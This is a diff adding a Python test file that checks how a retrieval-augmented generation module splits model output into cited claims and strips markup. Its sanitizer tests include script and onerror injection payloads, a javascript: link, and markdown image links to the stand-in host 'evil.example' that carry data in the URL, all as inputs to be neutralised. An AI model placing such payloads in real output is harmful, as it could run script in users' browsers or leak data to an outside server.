@@ -1,0 +1,58 @@
+"""Sentences, citations and nothing but plain text come out of a model's words."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from rag.claims import Claim, claims_of, plain
+
+SAID = (
+    "<think>The passages say 264. Or 39?</think>In total 264 people came [1]. Mayor Dr. Hřib of the U.S. spoke.[2][3] "
+    "It rose by 3.5 percent! [1, 3]\n- **Tartu** won [2-4]\nSee [the page](https://evil.example/?q=264) [5]. The end"
+)
+CLAIMS = [
+    Claim("In total 264 people came.", (1,)),
+    Claim("Mayor Dr. Hřib of the U.S. spoke.", (2, 3)),
+    Claim("It rose by 3.5 percent!", (1, 3)),
+    Claim("Tartu won", (2, 3, 4)),
+    Claim("See the page.", (5,)),
+    Claim("The end", ()),
+]
+
+
+@given(st.integers(1, 60))
+def test_sentences_do_not_depend_on_how_the_words_come(size: int) -> None:
+    assert list(claims_of(SAID[i : i + size] for i in range(0, len(SAID), size))) == CLAIMS
+
+
+def test_a_sentence_is_given_as_soon_as_the_next_has_begun() -> None:
+    words = iter(["One is so [1]. ", "Two ", "is so [2]."])
+    assert next(claims_of(words)) == Claim("One is so.", (1,))
+    assert next(words) == "is so [2]."
+
+
+@pytest.mark.parametrize(
+    ("written", "left"),
+    [
+        ("<b>264</b> people", " 264  people"),
+        ("<script>alert(1)</script>", " alert(1) "),
+        ("<img src=x onerror=alert(1) ", " "),
+        ("![x](https://evil.example/?q=secret) came", "  came"),
+        ("![x][ref] came", "  came"),
+        ("[people](javascript:alert(1)", "people"),
+        ("# Title\n> said **so** and `so`", "Title\nsaid so and so"),
+        ("a \u202eb\u200b\U000e0041c\x1b[31m", "a bc[31m"),
+        ("3 < 4 and 5 > 2, x_1 * y", "3 < 4 and 5 > 2, x_1 * y"),
+    ],
+)
+def test_markup_becomes_plain_text(written: str, left: str) -> None:
+    assert plain(written) == left
+
+
+@given(st.text(alphabet="ab .![]()<>*_`#\n-1https:/\u200b", max_size=60))
+def test_no_image_and_no_link_is_left(text: str) -> None:
+    left = plain(f"![{text}](x)")
+    assert "![" not in left
+    assert "](" not in left
